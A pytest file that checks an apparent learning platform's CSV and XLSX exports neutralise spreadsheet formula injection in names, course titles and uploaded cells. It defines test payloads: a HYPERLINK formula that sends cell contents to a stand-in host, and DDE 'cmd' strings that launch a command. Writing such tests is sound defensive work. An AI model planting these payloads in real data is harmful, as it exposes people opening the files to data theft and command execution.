"""Spreadsheet formula injection (issue 14 §2): text people typed (a legal name, a display name, a course title, a
cell of an uploaded file) reaches every CSV and XLSX the site writes, and none of it is a live formula there."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lms.accounts.models import User
from lms.catalogue.models import CourseVersion
from lms.cohorts.models import Cohort
from lms.db import get_session
from lms.spreadsheets import FORMULA_STARTS
from tests.conftest import PASSWORD, Browserish, csrf_token_from
from tests.web.test_bureau import verifier  # noqa: F401 - fixture
from tests.web.test_catalogue import example  # noqa: F401 - fixture
from tests.web.test_cohorts import mcn  # noqa: F401 - fixture
from tests.web.test_subsidy_audit import submitted  # noqa: F401 - fixture

LEGAL_NAME = '=HYPERLINK("http://x/?"&C2,"x")'
DISPLAY_NAME = "+cmd|' /C calc'!A0"
COURSE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
FILE_CELL = "-1+2+cmd|'/C'!A0"  # 16 characters: a bulk check keeps certificate-number cells up to 17


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(name: str, response, *, carries: tuple[str, ...]):
    assert response.status_code == 200, (name, response.status_code)
    if name.endswith(".xlsx"):
        cells = xlsx_cells(response.data)
        assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
        texts = [str(c.value) for c in cells if c.value is not None]
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS))
    else:
        texts = csv_cells(response.data)
        assert not [t for t in texts if t.startswith(FORMULA_STARTS)], name
    for text in carries:  # the text did go through, as text
        assert any(text in t for t in texts), (name, text)


@pytest.fixture
def poisoned(app, submitted, mcn):  # noqa: F811
    """The submitted cohort's consenting host has a formula as legal and display name, the course one as title."""
    trainer, ids = mcn
    with app.app_context():
        session = get_session()
        host = session.get(User, ids["a@example.com"])
        host.real_name.legal_name = LEGAL_NAME
        host.display_name = DISPLAY_NAME
        for version in session.scalars(select(CourseVersion)):
            version.title_zh = version.title_en = COURSE_TITLE
        cohort_id = session.scalar(select(Cohort.id))
        session.commit()
    learner = Browserish(app.test_client())
    learner.login("a@example.com", PASSWORD)
    return {"trainer": trainer, "verifier": submitted, "learner": learner, "cohort": f"/orgs/mcn-a/cohorts/{cohort_id}"}


def test_no_export_carries_a_live_formula(app, poisoned):
    trainer, verifier, learner = poisoned["trainer"], poisoned["verifier"], poisoned["learner"]
    cohort = poisoned["cohort"]
    page = verifier.get("/bureau/city-bureau/cohorts").get_data(as_text=True)
    roster = "/bureau/city-bureau/cohorts/" + page.split('href="/bureau/city-bureau/cohorts/')[1].split('"')[0]
    # A bureau's bulk check of a file whose cells are formulas.
    upload = io.StringIO()
    csv.writer(upload).writerows([["证书编号", "姓名"], [FILE_CELL, LEGAL_NAME]])
    token = csrf_token_from(verifier.get("/bureau/city-bureau/").get_data(as_text=True))
    r = verifier.client.post("/bureau/city-bureau/", data={"csrf_token": token,
                             "file": (io.BytesIO(upload.getvalue().encode()), "=cmd.csv")},
                             content_type="multipart/form-data", headers=verifier.headers)  # fmt: skip
    check = r.headers["Location"]
    exports = [
        (verifier, roster + "/roster.csv", (LEGAL_NAME, COURSE_TITLE)),
        (verifier, roster + "/roster.xlsx", (LEGAL_NAME, COURSE_TITLE)),
        (verifier, check + ".csv", (FILE_CELL,)),
        (verifier, check + ".xlsx", (FILE_CELL,)),
        (verifier, "/bureau/city-bureau/audit.csv", ("=cmd.csv",)),
        (trainer, cohort + ".csv", (DISPLAY_NAME, LEGAL_NAME, COURSE_TITLE)),
        (trainer, cohort + "/hours.csv", (DISPLAY_NAME, COURSE_TITLE)),
        (trainer, cohort + "/certificates.csv", (DISPLAY_NAME,)),
        (trainer, cohort + ".xlsx", (DISPLAY_NAME, LEGAL_NAME, COURSE_TITLE)),
        (trainer, "/orgs/mcn-a/skills.csv", (DISPLAY_NAME,)),
        (learner, "/learning/record.csv", (COURSE_TITLE,)),
    ]
    for client, url, carries in exports:
        assert_no_formula(url, client.get(url), carries=carries)
